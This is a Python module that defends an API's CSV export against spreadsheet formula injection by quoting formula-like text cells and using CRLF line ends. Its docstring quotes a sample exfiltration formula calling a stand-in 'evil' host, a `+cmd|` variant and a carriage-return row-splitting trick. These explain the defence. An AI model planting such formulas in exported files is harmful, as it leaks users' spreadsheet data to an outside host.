"""CSV cells a spreadsheet would run as formulas are written as text: the one row writer of the API's CSV.

A cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel, LibreOffice and
Google Sheets (`=HYPERLINK("http://evil/?"&A1, "click")` sends the sheet's data away when clicked; `@SUM(...)`,
`+cmd|...` are old variants). As OWASP recommends ("CSV Injection"), such a text cell gets a leading `'`,
which spreadsheets show as nothing and read as "this is text". Numbers are not touched: a negative number
is data, and only text becomes a formula by starting with `-`.

Rows end with CRLF (RFC 4180). With `\n` as the line terminator, Python's csv module leaves a field holding
a bare `\r` unquoted, and spreadsheets break the row there: `x\r=HYPERLINK(...)` became a new row starting
with a formula no prefix check sees. With CRLF every field holding `\r` or `\n` is quoted.
"""

from __future__ import annotations

import csv
from collections.abc import Sequence
from typing import Any, TextIO

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def neutralize(value: Any) -> Any:
    """`value` as it may go into a CSV cell: text that a spreadsheet would evaluate gets a leading `'`."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


LINE_END = "\r\n"


def writer(out: TextIO) -> Any:
    """The API's CSV writer: RFC 4180 line ends, minimal quoting."""
    return csv.writer(out, lineterminator=LINE_END)


def write_row(writer: Any, row: Sequence[Any]) -> None:
    """Write one row (header or data) through `writer` (a `csv.writer`), every cell neutralized."""
    writer.writerow([neutralize(value) for value in row])
